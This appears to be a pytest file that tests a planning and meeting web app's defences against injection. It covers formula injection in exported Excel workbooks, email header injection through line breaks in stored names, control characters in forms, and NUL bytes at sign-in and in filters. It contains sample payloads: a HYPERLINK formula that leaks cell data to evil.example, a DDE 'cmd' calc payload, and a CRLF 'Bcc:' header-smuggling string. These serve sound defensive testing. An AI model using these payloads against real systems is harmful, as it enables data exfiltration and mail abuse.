"""Injection, performed the way the probe did: a formula typed into a plan item or an adjustment
reason and read back from the exported workbook, line breaks stored in names and titles, and a
NUL byte sent to the sign-in form, the calendar feed and a filter (a 500 on PostgreSQL before)."""

import re
from datetime import timedelta
from io import BytesIO
from zipfile import ZipFile

import pytest
from icalendar import Calendar
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update

from coordination import spreadsheets
from coordination.auth.models import User
from coordination.extensions import db
from coordination.inbox import Notification
from coordination.meetings.models import Attendee, Meeting
from coordination.outbox.models import OutgoingMail
from coordination.plans.models import PlanItem
from coordination.reminders import delivery
from coordination.reminders.models import Reminder
from coordination.timeutil import frozen_at
from tests import factories as f
from tests.test_meetings import _meeting_form
from tests.test_plans import _item_form
from tests.test_reminders import _working_morning

LEAK = '=HYPERLINK("https://evil.example/?d="&D2&E2,"点击查看详情")'
CJK = re.compile(r"[\u4e00-\u9fff]")


def _read_back(data: bytes) -> tuple[Workbook, Workbook]:
    """The workbook as Excel would see its formulas, and as a reader of cached values sees it."""
    return load_workbook(BytesIO(data)), load_workbook(BytesIO(data), data_only=True)


def _assert_text(cells: list, typed: str) -> None:
    for cell in cells:
        assert cell.data_type == "s", f"{cell.coordinate} is {cell.data_type!r}, not text"
        assert cell.value == typed  # exactly what was typed: no formula, no stray quote
        assert cell.quotePrefix  # Excel's own "this is text" mark, kept when the cell is edited


def _cells_with(book: Workbook, typed: str) -> list:
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == typed]


# --- formulas in workbooks -----------------------------------------------------------------


def test_a_formula_typed_as_a_plan_item_comes_out_of_the_export_as_text(client, login):
    plan = f.draft_plan()
    login("lead.sh")
    typed = {
        "title": LEAK,
        "content": "+cmd|' /C calc'!A0",
        "expected_results": "-2+3",
    }
    assert client.post(f"/plans/{plan.id}/items/new", data=_item_form(**typed)).status_code == 302
    exported = client.get(f"/plans/{plan.id}/export.xlsx")
    assert exported.status_code == 200
    sheet_xml = ZipFile(BytesIO(exported.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    for book in _read_back(exported.data):
        for text in typed.values():
            cells = _cells_with(book, text)
            assert len(cells) == 1, f"{text!r} not found as typed"
            _assert_text(cells, text)


def test_an_exported_plan_with_formula_like_text_imports_back_unchanged(client, login, run_jobs):
    plan = f.draft_plan()
    login("lead.sh")
    client.post(f"/plans/{plan.id}/items/new", data=_item_form(title="=SUM(1+1)"))
    exported = client.get(f"/plans/{plan.id}/export.xlsx").data
    target = f.draft_plan(year=plan.year + 1, items=0)
    response = client.post(
        f"/plans/{target.id}/import",
        data={"file": (BytesIO(exported), "计划.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    run_jobs()  # the sheet is read in the background
    titles = db.session.scalars(select(PlanItem.title).where(PlanItem.plan_id == target.id)).all()
    assert "=SUM(1+1)" in titles  # the text round-trips: no quote added to the value


def test_an_adjustment_reason_comes_out_of_the_supervision_workbook_as_text(client, login):
    plan = f.issued_plan()
    port = f.body("大连港口与口岸局")
    login("lead.sh")
    url = f"/evaluation/{plan.year}/units/{port.id}"
    assert client.post(url, data={"points": "2", "reason": LEAK}).status_code == 302
    login("leader.dl")
    response = client.get(f"/supervision/report.xlsx?year={plan.year}")
    assert response.status_code == 200
    for book in _read_back(response.data):
        cells = [c for c in _cells_with(book, LEAK) if c.parent.title == "考核评估"]
        assert cells, "the reason is not in the evaluation sheet"
        _assert_text(cells, LEAK)


@pytest.mark.parametrize(
    "typed", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "#N/A", "a\x00b\x07c", "x" * 40000]
)
def test_every_text_written_to_a_workbook_stays_text(typed):
    book = Workbook()
    spreadsheets.append(book.active, [typed, 3])
    buffer = BytesIO()
    book.save(buffer)
    for read in _read_back(buffer.getvalue()):
        cell, number = read.active["A1"], read.active["B1"]
        assert cell.data_type == "s" and number.value == 3
        # XML cannot carry NUL or BEL: they are dropped, the rest is kept (up to Excel's limit);
        # XML reads a carriage return back as a line feed.
        assert cell.value == re.sub(r"[\x00\x07]", "", typed)[:32767].replace("\r", "\n")
        assert cell.quotePrefix == typed.startswith(spreadsheets.FORMULA_TRIGGERS)


def test_sheet_titles_from_any_text():
    assert spreadsheets.sheet_title("一、协同/创新: [重点]*?") == "一、协同_创新_ _重点___"
    assert len(spreadsheets.sheet_title("很长" * 40)) == 31
    Workbook().create_sheet(spreadsheets.sheet_title("a/b\\c"))  # accepted by openpyxl


# --- line breaks in stored names -------------------------------------------------------------

BROKEN = "\r\nBcc: boss@evil.example"


def _headers_of(raw: str) -> list[str]:
    """The header lines of a stored message, continuation lines joined to their header."""
    head = raw.replace("\r\n", "\n").split("\n\n", 1)[0]
    return re.sub(r"\n[ \t]+", " ", head).split("\n")


def test_line_breaks_in_stored_names_neither_break_nor_add_headers_to_invitations(
    client, login, smtp, run_jobs
):
    # Stored straight into the database, as an import, a script or an older version could have.
    db.session.execute(update(User).where(User.username == "leader.dl").values(name="Li Lei" + BROKEN))
    db.session.execute(update(User).where(User.username == "secretary.dl").values(name="秘书\n处"))
    db.session.commit()
    login("secretary.dl")
    client.post("/meetings/new", data=_meeting_form())
    meeting = db.session.scalar(select(Meeting))
    client.post(
        f"/meetings/{meeting.id}/attendees", data={"user_id": f.user("leader.dl").id, "role": "chair"}
    )
    client.post(
        f"/meetings/{meeting.id}/attendees",
        data={
            "user_id": 0,
            "name": "Zhang Wei",
            "email": "zhang.wei@partner.example.com",
            "role": "optional",
        },
    )
    db.session.execute(update(Meeting).values(title="联席会议" + BROKEN, venue="大连\r\n会议室"))
    db.session.execute(update(Attendee).where(Attendee.user_id.is_(None)).values(name="Zhang\r\nWei"))
    db.session.commit()
    response = client.post(f"/meetings/{meeting.id}/schedule")
    assert response.status_code == 302
    assert db.session.get(Meeting, meeting.id).state == "scheduled"
    rows = db.session.scalars(select(OutgoingMail)).all()
    assert len(rows) == 2
    for row in rows:
        headers = _headers_of(row.message)
        assert not [h for h in headers if h.lower().startswith("bcc")]  # nothing added
    run_jobs()
    assert len(smtp.messages) == 2
    for message in smtp.messages:
        assert message["Bcc"] is None
        assert "\n" not in str(message["Subject"]) and "\n" not in str(message["To"])
        part = next(p for p in message.walk() if p.get_content_type() == "text/calendar")
        event = Calendar.from_ical(part.get_content()).walk("VEVENT")[0]
        assert str(event["SUMMARY"]) == "联席会议 Bcc: boss@evil.example"
        assert str(event["LOCATION"]) == "大连 会议室"
        assert event["ORGANIZER"].params["CN"] == "秘书 处"
        names = {a.params["CN"] for a in event.get("ATTENDEE")}
        assert names == {"Li Lei Bcc: boss@evil.example", "Zhang Wei"}
    to = smtp.to("leader.dl@hulian.example.cn")[0]["To"].addresses[0]
    assert (to.display_name, to.addr_spec) == ("Li Lei Bcc: boss@evil.example", "leader.dl@hulian.example.cn")


def test_a_line_break_in_a_users_name_does_not_stop_their_reminders_or_their_bell(
    client, login, app, smtp, run_jobs
):
    f.issued_plan()
    user = f.user("liaison.dl.port")
    db.session.execute(update(User).where(User.id == user.id).values(name="Port Liaison" + BROKEN))
    db.session.execute(update(PlanItem).values(title="港航物流\r\n合作"))
    morning = _working_morning()
    with frozen_at(morning):
        query = select(Reminder.id).where(Reminder.user_id == user.id, Reminder.audience == "unit")
        mine = db.session.scalars(query.order_by(Reminder.id)).all()[:2]
        db.session.execute(update(Reminder).where(Reminder.id.notin_(mine)).values(status="cancelled"))
        db.session.execute(
            update(Reminder).where(Reminder.id.in_(mine)).values(due_at=morning - timedelta(hours=9))
        )
        db.session.execute(update(Reminder).where(Reminder.id == mine[0]).values(subject="港航物流\r\n合作"))
        db.session.commit()
        delivery.sweep()
        run_jobs()
    inbox = smtp.to("liaison.dl.port@hulian.example.cn")
    assert len(inbox) == 1 and inbox[0]["Bcc"] is None
    assert "\n" not in str(inbox[0]["To"])
    statuses = db.session.scalars(select(Reminder.status).where(Reminder.id.in_(mine))).all()
    assert statuses == ["sent", "sent"]
    kinds = db.session.scalars(select(Notification.kind).where(Notification.user_id == user.id)).all()
    assert sorted(kinds) == ["reminder", "reminder", "task_assigned"]  # the plan's tasks, then the two
    login("liaison.dl.port")
    assert re.search(r'class="bell-count"[^>]*>3</span>', client.get("/").get_data(as_text=True))


def test_a_line_break_in_stored_names_and_titles_keeps_the_calendar_feed_working(client, login):
    plan = f.issued_plan()
    db.session.execute(
        update(User)
        .where(User.username == "liaison.dl.port")
        .values(name="港口\r\n联络员", ics_token="t" * 40)
    )
    db.session.execute(update(PlanItem).where(PlanItem.plan_id == plan.id).values(title="x"))
    from coordination.assignments.models import Assignment

    db.session.execute(update(Assignment).values(title="港航\r\n物流\x0b合作"))
    db.session.commit()
    response = client.get(f"/calendar/{'t' * 40}.ics")
    assert response.status_code == 200
    assert b"\x0b" not in response.data
    calendar = Calendar.from_ical(response.data)
    assert str(calendar["X-WR-CALNAME"]) == "沪连对口合作 · 港口 联络员"
    assert "【截止】港航 物流 合作" in [str(e["SUMMARY"]) for e in calendar.walk("VEVENT")]


# --- control characters at the form ----------------------------------------------------------


def test_single_line_fields_refuse_line_breaks_and_text_areas_keep_them(client, login):
    login("secretary.dl")
    for title in ("联席会议\r\nBcc: x@evil.example", "联席\t会议", "联席\u2028会议"):
        page = client.post("/meetings/new", data=_meeting_form(title=title)).get_data(as_text=True)
        assert "此处只能填写一行" in page
    assert db.session.scalar(select(func.count()).select_from(Meeting)) == 0
    login("admin")
    page = client.post(
        "/admin/users/new",
        data={"username": "new.user", "name": "王\n五", "password": "long-enough-2026", "active": "y"},
    ).get_data(as_text=True)
    assert "此处只能填写一行" in page and f.user("new.user") is None
    plan = f.draft_plan()
    login("lead.sh")
    page = client.post(f"/plans/{plan.id}/items/new", data=_item_form(content="第一段\x07第二段")).get_data(
        as_text=True
    )
    assert "请删除文字中不可见的控制字符" in page
    response = client.post(
        f"/plans/{plan.id}/items/new",
        data=_item_form(title="多段内容", content="第一段\r\n\t第二段"),
    )
    assert response.status_code == 302
    item = db.session.scalar(select(PlanItem).where(PlanItem.title == "多段内容"))
    assert "\t第二段" in item.content


# --- a NUL byte anywhere (PostgreSQL cannot store it) ------------------------------------------


def _refused_with_a_chinese_page(response) -> None:
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "空字符" in page and CJK.search(page)


def test_a_nul_byte_at_sign_in_is_refused_in_chinese(client):
    _refused_with_a_chinese_page(client.post("/login", data={"username": "admin\x00", "password": "x"}))
    _refused_with_a_chinese_page(client.post("/login", data={"username": "admin", "password": "a\x00b"}))
    _refused_with_a_chinese_page(client.post("/login", data={"user\x00name": "admin", "password": "x"}))


def test_a_nul_byte_in_the_calendar_feed_address_is_refused_without_signing_in(client):
    _refused_with_a_chinese_page(client.get("/calendar/%00.ics"))
    _refused_with_a_chinese_page(client.get(f"/calendar/{'a' * 40}%00.ics"))
    _refused_with_a_chinese_page(client.get("/login?next=%00"))


def test_a_nul_byte_in_filters_headers_and_file_names_is_refused(client, login):
    login("admin")
    _refused_with_a_chinese_page(client.get("/admin/audit?since=%00"))
    _refused_with_a_chinese_page(client.get("/admin/audit?q=a%00b"))
    _refused_with_a_chinese_page(client.get("/", headers={"User-Agent": "Mozilla\x00"}))
    plan = f.draft_plan()
    login("lead.sh")
    _refused_with_a_chinese_page(
        client.post(
            f"/plans/{plan.id}/import",
            data={"file": (BytesIO(b"PK\x03\x04"), "计划\x00.xlsx")},
            content_type="multipart/form-data",
        )
    )
    assert client.get("/admin/audit?since=2026-01-01").status_code in (200, 403)
